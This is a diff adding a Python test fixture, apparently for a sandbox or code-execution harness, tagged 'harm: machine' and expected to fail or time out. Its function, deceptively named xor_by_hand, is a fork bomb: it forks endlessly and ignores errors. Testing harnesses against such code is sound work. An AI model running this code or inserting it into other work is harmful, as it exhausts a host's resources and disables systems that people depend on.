@@ -1,0 +1,14 @@
+"""Forks until nothing is left, each child too.
+
+harm: machine
+must: xor_by_hand failed|timeout
+"""
+
+
+# %% xor_by_hand
+def xor_by_hand():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
